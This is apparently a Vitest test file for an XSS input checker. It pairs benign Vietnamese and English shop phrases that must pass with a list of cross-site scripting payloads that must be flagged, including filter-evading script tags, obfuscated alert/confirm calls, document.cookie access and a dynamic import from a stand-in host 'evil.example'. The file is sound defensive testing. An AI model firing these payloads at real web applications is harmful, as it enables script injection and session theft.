import { expect, test } from 'vitest'
import { checkInput } from '../check-input.ts'

const codes = (text: string) => checkInput('general', text).errors.map(({ code }) => code)

test.each([
  'Mocha:2 đôi',
  'Màu đẹp nhất là Mocha:',
  'Váy (đỏ), top (trắng)',
  "Áo 'Elsa' top (M) còn không?",
  "Hàng 'xách tay', import (Nhật)",
  'Giày nữ (mới), top (10)',
  'with a dynamic `import()`',
  'comfort < style',
  'subject < object',
  'a < style and b > c',
  'Attach the document.Write me back',
  'Shop at the top.Location is great',
  'Giao sau 17h; confirm (0901234567) trước',
  'Giao 9h; confirm(0901234567)',
  'Đầm (đỏ), top[M]',
  'confirm(2)',
  'We teach JavaScript:',
  '7¼in và 9¾in',
])('“%s” is prose', (text) => expect(codes(text)).toEqual([]))

test.each([
  '< script >',
  '< / script >',
  '< object data=x >',
  '< style >',
  '<object',
  "'-alert (1)-'",
  "';top['al'+'ert'](1)//",
  "';import('//evil.example')//",
  'document.cookie',
  '<img src="livescript:[code]">',
  '<img src=mocha:x>',
  "top['al'+'ert'](1)",
  '(alert)(1)',
  '[1].find(alert)',
  'a=prompt,a(1)',
  'top.location',
  "';confirm (1);'",
  ';confirm(document.domain)',
  "';confirm(2)//",
  'javascript:',
  '¼script¾',
])('%s is an attack', (text) => expect(codes(text)).toContain('XSS'))
